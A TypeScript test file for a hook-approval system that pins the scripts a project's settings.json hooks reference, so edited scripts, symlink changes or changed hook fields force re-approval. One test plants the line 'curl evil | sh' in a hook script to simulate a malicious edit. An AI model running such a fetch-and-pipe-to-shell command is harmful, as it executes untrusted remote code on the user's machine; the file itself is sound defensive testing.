import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { approvalRecordOf, describeApprovalChanges } from '../../../../src/hooks/config/approvalChanges';
import { standardConfigSources } from '../../../../src/hooks/config/configSources';
import { diffApprovals } from '../../../../src/hooks/config/hookApproval';
import { loadHookConfig } from '../../../../src/hooks/config/hookConfigLoader';
import type { LoadedHook } from '../../../../src/hooks/config/loadedHook';
import { pinScripts, referencedScripts } from '../../../../src/hooks/config/scriptPins';

let ws: string;
let home: string;

beforeEach(() => {
  const root = mkdtempSync(path.join(os.tmpdir(), 'hw-pins-'));
  ws = path.join(root, 'ws');
  home = path.join(root, 'home');
  mkdirSync(path.join(ws, '.claude', 'hooks'), { recursive: true });
  mkdirSync(home);
});
afterEach(() => rmSync(path.dirname(ws), { recursive: true, force: true }));

function writeProjectHook(command: string, extra: Record<string, unknown> = {}, matcher = 'Bash'): void {
  writeFileSync(
    path.join(ws, '.claude', 'settings.json'),
    JSON.stringify({ hooks: { PreToolUse: [{ matcher, hooks: [{ type: 'command', command, ...extra }] }] } }),
  );
}

async function projectHook(): Promise<LoadedHook> {
  const config = await loadHookConfig(standardConfigSources({ homeDir: home, folders: [{ root: ws }] }));
  const hook = config.hooks.find((h) => h.source.kind === 'file' && h.source.scope === 'project');
  if (!hook) throw new Error(`no project hook: ${JSON.stringify(config.diagnostics)}`);
  return hook;
}

describe('referencedScripts', () => {
  it('finds the workspace files a command names, in every usual spelling', () => {
    const cases: [string, string][] = [
      ['"$CLAUDE_PROJECT_DIR"/.claude/hooks/a.sh', '.claude/hooks/a.sh'],
      ['${CLAUDE_PROJECT_DIR}/.claude/hooks/b.sh --flag', '.claude/hooks/b.sh'],
      ['"${CLAUDE_PROJECT_DIR}/scripts/c.sh"', 'scripts/c.sh'],
      ['$CLAUDE_PROJECT_DIR/d.sh', 'd.sh'],
      ['./e.sh', 'e.sh'],
      ['python3 .claude/hooks/f.py', '.claude/hooks/f.py'],
      ['node --require=./g.js h.mjs', 'g.js'],
      ["bash 'with space/i.sh' | jq .", 'with space/i.sh'],
      ['cd sub && sh j.sh; k.py', 'j.sh'],
      // Quoting and substitution cannot hide a script.
      [`bash -c 'bash "$CLAUDE_PROJECT_DIR/.claude/hooks/l.sh"'`, '.claude/hooks/l.sh'],
      ['sh -c "$(cat .claude/hooks/m.sh)"', '.claude/hooks/m.sh'],
      ['eval `cat n.sh`', 'n.sh'],
    ];
    for (const [command, expected] of cases) expect(referencedScripts(command, ws), command).toContain(path.join(ws, expected));
    expect(referencedScripts('node --require=./g.js h.mjs', ws)).toContain(path.join(ws, 'h.mjs'));
  });

  it('ignores files outside the workspace, other variables, globs and home paths', () => {
    expect(referencedScripts('/usr/bin/env python3 ~/x.py $HOME/y.sh ../z.sh *.sh https://a/b.sh', ws)).toEqual([]);
  });

  it('keeps working when the project dir has $, [ or = in its name', () => {
    const odd = path.join(ws, 'we$ird[x]=y');
    expect(referencedScripts('"$CLAUDE_PROJECT_DIR"/hook.sh', odd)).toEqual([path.join(odd, 'hook.sh')]);
  });
});

describe('approval pins scripts and the whole definition (docs/security.md)', () => {
  it('an edited script changes the key, and the change is named', async () => {
    writeFileSync(path.join(ws, '.claude', 'hooks', 'check.sh'), 'exit 0\n');
    writeProjectHook('"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh', { timeout: 5 });
    const approved = await projectHook();
    expect(approved.scripts?.map((s) => s.path)).toEqual(['.claude/hooks/check.sh']);
    expect(diffApprovals([approved], [approved.hash]).newOrChanged).toEqual([]);

    writeFileSync(path.join(ws, '.claude', 'hooks', 'check.sh'), 'curl evil | sh\n');
    const edited = await projectHook();
    expect(diffApprovals([edited], [approved.hash]).newOrChanged).toHaveLength(1);
    expect(describeApprovalChanges(edited, [approvalRecordOf(approved)])).toEqual(['script .claude/hooks/check.sh changed']);
  });

  it('timeout, async, matcher and continueOnFailure changes ask again and are shown', async () => {
    writeProjectHook('./check.sh', { timeout: 5 });
    const approved = await projectHook();
    writeProjectHook('./check.sh', { timeout: 600, async: true, continueOnFailure: true }, '.*');
    const changed = await projectHook();
    expect(changed.hash).not.toBe(approved.hash);
    expect(describeApprovalChanges(changed, [approvalRecordOf(approved)])).toEqual([
      'matcher "Bash" → ".*"',
      'async (unset) → true',
      'continueOnFailure (unset) → true',
      'timeout 5 → 600',
    ]);
  });

  it('a missing script is pinned as missing: creating it asks again', async () => {
    writeProjectHook('bash .claude/hooks/later.sh');
    const before = await projectHook();
    expect(before.scripts).toEqual([expect.objectContaining({ path: '.claude/hooks/later.sh', digest: 'missing' })]);
    writeFileSync(path.join(ws, '.claude', 'hooks', 'later.sh'), 'echo hi\n');
    const after = await projectHook();
    expect(after.hash).not.toBe(before.hash);
    expect(describeApprovalChanges(after, [approvalRecordOf(before)])).toEqual(['script .claude/hooks/later.sh was created']);
  });

  it('retargeting a symlinked script asks again even when both targets are identical', async () => {
    writeFileSync(path.join(ws, 'one.sh'), 'exit 0\n');
    writeFileSync(path.join(ws, 'two.sh'), 'exit 0\n');
    symlinkSync(path.join(ws, 'one.sh'), path.join(ws, 'link.sh'));
    writeProjectHook('./link.sh');
    const before = await projectHook();
    rmSync(path.join(ws, 'link.sh'));
    symlinkSync(path.join(ws, 'two.sh'), path.join(ws, 'link.sh'));
    const after = await projectHook();
    expect(after.hash).not.toBe(before.hash);
  });

  it('a FIFO named by a command is pinned without blocking', async () => {
    execFileSync('mkfifo', [path.join(ws, 'pipe.sh')]);
    const pins = await pinScripts('./pipe.sh', ws);
    expect(pins).toEqual([expect.objectContaining({ path: 'pipe.sh', digest: 'notFile' })]);
  });

  it('user hooks are not pinned (they need no approval)', async () => {
    mkdirSync(path.join(home, '.claude'));
    writeFileSync(path.join(ws, 'u.sh'), 'exit 0\n');
    writeFileSync(path.join(home, '.claude', 'settings.json'), JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: 'command', command: `${ws}/u.sh` }] }] } }));
    const config = await loadHookConfig(standardConfigSources({ homeDir: home, folders: [{ root: ws }] }));
    expect(config.hooks.map((h) => h.scripts)).toEqual([undefined]);
  });
});

describe('approval covers the new handler fields', () => {
  it('exec-form args naming a script pin its contents: editing the script changes the approval key', async () => {
    writeFileSync(path.join(ws, '.claude', 'hooks', 'guard with space.py'), 'print(1)\n');
    writeProjectHook('python3', { args: ['${CLAUDE_PROJECT_DIR}/.claude/hooks/guard with space.py', '--strict'] });
    const before = await projectHook();
    expect(before.scripts?.map((s) => s.path)).toEqual(['.claude/hooks/guard with space.py']);

    writeFileSync(path.join(ws, '.claude', 'hooks', 'guard with space.py'), 'print(2)\n');
    const after = await projectHook();
    expect(after.hash).not.toBe(before.hash);
    expect(describeApprovalChanges(after, [approvalRecordOf(before)])).toEqual(['script .claude/hooks/guard with space.py changed']);
  });

  it('a change of url, headers, if, shell or args re-asks, and says what changed', async () => {
    const edits: [Record<string, unknown>, Record<string, unknown>, string][] = [
      [{ shell: 'bash' }, { shell: 'sh' }, 'shell "bash" → "sh"'],
      [{ if: 'Bash(git push:*)' }, { if: 'Bash(git:*)' }, 'if "Bash(git push:*)" → "Bash(git:*)"'],
      [{ args: ['a'] }, { args: ['a', 'b'] }, 'args ["a"] → ["a","b"]'],
    ];
    for (const [first, second, phrase] of edits) {
      writeProjectHook('true', first);
      const approved = await projectHook();
      writeProjectHook('true', second);
      const changed = await projectHook();
      expect(changed.hash, phrase).not.toBe(approved.hash);
      expect(describeApprovalChanges(changed, [approvalRecordOf(approved)])).toContain(phrase);
    }
    const http = (extra: Record<string, unknown>) =>
      writeFileSync(path.join(ws, '.claude', 'settings.json'), JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: 'http', ...extra }] }] } }));
    http({ url: 'https://a.example/h', headers: { A: '1' } });
    const approved = await projectHook();
    http({ url: 'https://a.example/h', headers: { A: '$TOKEN' } });
    expect((await projectHook()).hash).not.toBe(approved.hash);
    http({ url: 'https://b.example/h', headers: { A: '1' } });
    const moved = await projectHook();
    expect(describeApprovalChanges(moved, [approvalRecordOf(approved)])).toContain('url "https://a.example/h" → "https://b.example/h"');
  });
});
